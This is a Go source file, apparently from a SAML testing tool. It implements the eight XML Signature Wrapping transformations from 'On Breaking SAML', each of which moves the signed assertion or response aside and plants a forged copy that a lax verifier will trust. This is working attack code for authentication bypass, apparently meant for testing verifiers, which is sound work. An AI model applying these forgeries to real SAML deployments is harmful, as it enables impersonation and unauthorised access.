package rehearse

import (
	"errors"

	"github.com/beevik/etree"
)

// The eight ways to wrap a signature that Somorovsky et al. describe ("On Breaking SAML", 2012), in the numbering that
// attack tools use: the signed element stays somewhere in the document, so that the signature is valid, and a forged one
// stands where a careless reader looks. 1, 6 and 8 hide it within the signature, where only a verifier that gets the
// enveloped-signature transform wrong finds it. 1 and 2 need a signed response, the others a signed assertion.
func wrappings() []behaviour {
	return []behaviour{
		{fault: Wrap1, doc: "forged response, the signed one inside its signature", bend: wrapResponse(true)},
		{fault: Wrap2, doc: "forged response, the signed one before its signature", bend: wrapResponse(false)},
		{fault: Wrap3, doc: "forged assertion before the signed one", bend: wrapAssertion(wrapBefore)},
		{fault: Wrap4, doc: "forged assertion around the signed one", bend: wrapAssertion(wrapAround)},
		{fault: Wrap5, doc: "forged assertion with the signature, the signed one behind", bend: wrapAssertion(wrapBehind)},
		{fault: Wrap6, doc: "forged assertion with the signature, the signed one inside the signature", bend: wrapAssertion(wrapInside)},
		{fault: Wrap7, doc: "forged assertion in Extensions", bend: wrapAssertion(wrapExtensions)},
		{fault: Wrap8, doc: "forged assertion around a signature whose Object holds the signed one", bend: wrapAssertion(wrapObject)},
	}
}

var errNotSigned = errors.New("the part to wrap is not signed; choose what is signed accordingly")

func signatureOf(el *etree.Element) *etree.Element { return el.FindElement("./Signature") }

// wrapResponse puts the signed response into, or before, the signature of a forged copy.
func wrapResponse(inside bool) func(*etree.Element) error {
	return func(response *etree.Element) error {
		sig := signatureOf(response)
		if sig == nil {
			return errNotSigned
		}
		signed := response.Copy()
		signed.RemoveChild(signatureOf(signed))
		response.CreateAttr("ID", newID())
		if a := assertionOf(response); a != nil {
			a.CreateAttr("ID", newID())
		}
		forge(response)
		if inside {
			sig.AddChild(signed)
		} else {
			response.InsertChildAt(sig.Index(), signed)
		}
		return nil
	}
}

// wrapping arranges three elements in the response: the signed assertion that stands there, a forged copy of it without
// signature, and a copy of the signed one without signature.
type wrapping func(response, signed, forged, bare *etree.Element)

func wrapAssertion(arrange wrapping) func(*etree.Element) error {
	return func(response *etree.Element) error {
		signed := assertionOf(response)
		if signatureOf(signed) == nil {
			return errNotSigned
		}
		bare := signed.Copy()
		bare.RemoveChild(signatureOf(bare))
		forged := bare.Copy()
		forged.CreateAttr("ID", newID())
		forge(forged)
		arrange(response, signed, forged, bare)
		return nil
	}
}

func wrapBefore(response, signed, forged, _ *etree.Element) {
	response.InsertChildAt(signed.Index(), forged)
}

func wrapAround(response, signed, forged, _ *etree.Element) {
	response.InsertChildAt(signed.Index(), forged)
	forged.AddChild(signed)
}

func wrapBehind(response, signed, forged, bare *etree.Element) {
	response.InsertChildAt(signed.Index(), forged)
	forged.InsertChildAt(1, signatureOf(signed))
	response.RemoveChild(signed)
	response.AddChild(bare)
}

func wrapInside(response, signed, forged, bare *etree.Element) {
	sig := signatureOf(signed)
	response.InsertChildAt(signed.Index(), forged)
	forged.InsertChildAt(1, sig)
	response.RemoveChild(signed)
	sig.AddChild(bare)
}

func wrapExtensions(response, _, forged, _ *etree.Element) {
	extensions := etree.NewElement("samlp:Extensions")
	extensions.AddChild(forged)
	response.InsertChildAt(1, extensions)
}

func wrapObject(response, signed, forged, bare *etree.Element) {
	sig := signatureOf(signed)
	response.InsertChildAt(signed.Index(), forged)
	forged.InsertChildAt(1, sig)
	response.RemoveChild(signed)
	object := sig.CreateElement("ds:Object")
	object.AddChild(bare)
}
